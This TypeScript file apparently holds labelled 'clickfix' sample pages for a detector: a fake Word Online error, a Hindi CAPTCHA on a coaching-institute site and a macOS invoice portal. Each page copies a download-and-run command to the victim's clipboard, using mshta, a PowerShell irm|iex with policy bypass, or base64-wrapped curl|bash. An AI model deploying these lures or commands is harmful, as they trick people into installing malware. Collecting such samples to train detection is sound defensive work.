import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { b64, doc, wordmark, emblem, FONTS } from '../parts/yn-kit.js';

export const entries: Entry[] = [
{
  id: 'yn-clickfix-ca-firm-wordpress-word-error',
  label: 'clickfix',
  kind: 'clickfix-fake-error',
  url: 'https://www.agarwalassociates-ca.com/services/gst-registration/',
  body: doc({
    title: 'GST Registration Services – Agarwal & Associates, Chartered Accountants',
    css: `.pg{padding:30px;max-width:900px;margin:0 auto}.pg h1{color:#1d3557}
.ov{position:fixed;inset:0;background:#f3f2f1;display:flex;align-items:flex-start;justify-content:center;padding-top:80px;font-family:'Segoe UI',Arial}
.w{background:#fff;width:640px;border:1px solid #ddd;box-shadow:0 2px 10px rgba(0,0,0,.1)}.w .t{background:#2b579a;color:#fff;padding:10px 16px;font-weight:600}.w .b{padding:20px}.w button{background:#2b579a;color:#fff;border:0;height:36px;padding:0 22px;margin-right:8px}
.how{display:none;background:#f7f7f7;padding:12px;margin-top:12px;font-size:14px}code{background:#eee;padding:2px 4px}`,
    body: `<div class="pg"><h1>GST Registration &amp; Return Filing</h1><p>Agarwal &amp; Associates, Chartered Accountants, Jaipur, offers GST registration in 3 working days, monthly GSTR-1/3B filing, annual return and GST audit for traders and MSMEs.</p></div>
<div class="ov"><div class="w"><div class="t">Word Online</div><div class="b">
<p><b>Error: "Word Online" extension is not installed.</b></p><p>The document <i>GST_Documents_Checklist.docx</i> cannot be displayed. To open the document in your browser you need to install the "Word Online" extension. Click <b>How to fix</b> and follow the instructions.</p>
<button id="fix">How to fix</button><button style="background:#ddd;color:#333">Download .docx</button>
<div class="how" id="how"><ol><li>Right-click the <b>Start</b> button ⊞, select <b>Windows PowerShell (Admin)</b> or <b>Terminal (Admin)</b></li><li>Right-click inside the window to paste the copied code</li><li>Press <b>Enter</b> and refresh this page</li></ol><p>The fix has been copied to your clipboard.</p></div></div></div></div>
<script>
(function(){var a=['mshta','https://office-ext-cdn.com/word/fix.hta'];
var c=a[0]+' '+a[1]+' # Word Online extension installer';
document.getElementById('fix').onclick=function(){navigator.clipboard.writeText(c).catch(function(){});document.getElementById('how').style.display='block'};})();
</script>`,
  }),
},
{
  id: 'yn-clickfix-coaching-institute-hindi-captcha',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://www.vidyapeethcoachingkota.in/results-2025/',
  body: doc({
    title: 'JEE/NEET Results 2025 - Vidyapeeth Coaching Kota',
    lang: 'hi',
    font: FONTS.deva,
    css: `.bg{padding:20px;filter:blur(4px)}.m{position:fixed;top:15%;left:50%;transform:translateX(-50%);background:#fff;border:1px solid #ccc;box-shadow:0 4px 22px rgba(0,0,0,.25);width:440px;border-radius:4px}.m .hd{background:#4a90e2;color:#fff;padding:12px 16px}.m .bd{padding:16px}.m button{width:100%;height:42px;background:#4a90e2;color:#fff;border:0;margin-top:10px}.gr{display:grid;grid-template-columns:repeat(3,1fr);gap:3px}.gr div{height:80px;background:#cfd8dc}.s{display:none;background:#f4f8ff;border:1px solid #cfe0ff;padding:10px;margin-top:10px;font-size:14px}`,
    body: `<div class="bg"><h1>JEE Advanced 2025 Results: 148 students qualified!</h1><p>Vidyapeeth Coaching Kota congratulates all students. AIR 112, AIR 340, AIR 877...</p></div>
<div class="m"><div class="hd">रोबोट सत्यापन / Robot Verification<br><small>सभी चित्रों का चयन करें जिनमें बस है</small></div><div class="bd"><div class="gr">${'<div></div>'.repeat(9)}</div>
<button id="v">सत्यापित करें / Verify</button>
<div class="s" id="s"><b>सत्यापन पूरा करने के लिए:</b><br>1. अपने कीबोर्ड पर <b>Windows + R</b> दबाएँ<br>2. <b>Ctrl + V</b> दबाएँ<br>3. <b>Enter</b> दबाएँ<br><small>यह एक बार की सुरक्षा जाँच है।</small></div></div></div>
<script src="/wp-content/plugins/wp-captcha-pro/assets/v.js"></script>`,
  }),
  routes: {
    'www.vidyapeethcoachingkota.in/wp-content/plugins/wp-captcha-pro/assets/v.js': jsRoute(`(function(){var p=["cmd /c ","start /min powershell -w 1 ","-ep bypass -c ","\\"$r=irm https://kota-cdn-static.com/c.txt;iex $r\\"", " :: मैं रोबोट नहीं हूँ - सत्यापन ID 55190"];
document.getElementById('v').addEventListener('click',function(){var t=document.createElement('textarea');t.value=p.join('');document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();document.getElementById('s').style.display='block';this.textContent='प्रतीक्षा करें...'});})();`),
  },
},
{
  id: 'yn-clickfix-macos-terminal-invoice-portal',
  label: 'clickfix',
  kind: 'clickfix-macos',
  url: 'https://billing.zohobooks-invoices.com/portal/inv/88213',
  body: doc({
    title: 'Invoice INV-88213 | Customer Portal',
    css: `body{background:#f5f7fa;font-family:-apple-system,BlinkMacSystemFont,'Helvetica Neue',Arial}.c{max-width:560px;margin:70px auto;background:#fff;border-radius:10px;padding:28px;box-shadow:0 2px 14px rgba(0,0,0,.08)}pre{background:#1e1e1e;color:#9cdcfe;padding:12px;border-radius:6px;white-space:pre-wrap;word-break:break-all;font-size:12px}button{background:#0a84ff;color:#fff;border:0;border-radius:6px;height:38px;padding:0 18px}.k{font-family:monospace;background:#eee;padding:1px 5px;border-radius:3px}`,
    body: `<div class="c"><h2>Secure document verification</h2><p>Invoice <b>INV-88213</b> from <b>Kaveri Cloud Services LLP</b> (₹ 42,480.00) is protected. macOS users must verify the device before the PDF can be opened.</p>
<ol><li>Press <span class="k">⌘ Command</span> + <span class="k">Space</span>, type <b>Terminal</b> and press Return</li><li>Paste the verification command (already copied) with <span class="k">⌘ V</span></li><li>Press Return and enter your Mac password if asked</li></ol>
<pre id="c"></pre><button id="b">Copy command</button></div>
<script>
var c='echo "Verifying device..." && /bin/bash -c "$(echo ${b64("curl -fsSL https://zb-portal-cdn.com/mac/verify.sh | bash")} | base64 -d)"';
document.getElementById('c').textContent=c;
function cp(){navigator.clipboard.writeText(c).catch(function(){})}
cp();document.getElementById('b').onclick=function(){cp();this.textContent='Copied ✓'};
</script>`,
  }),
},
];
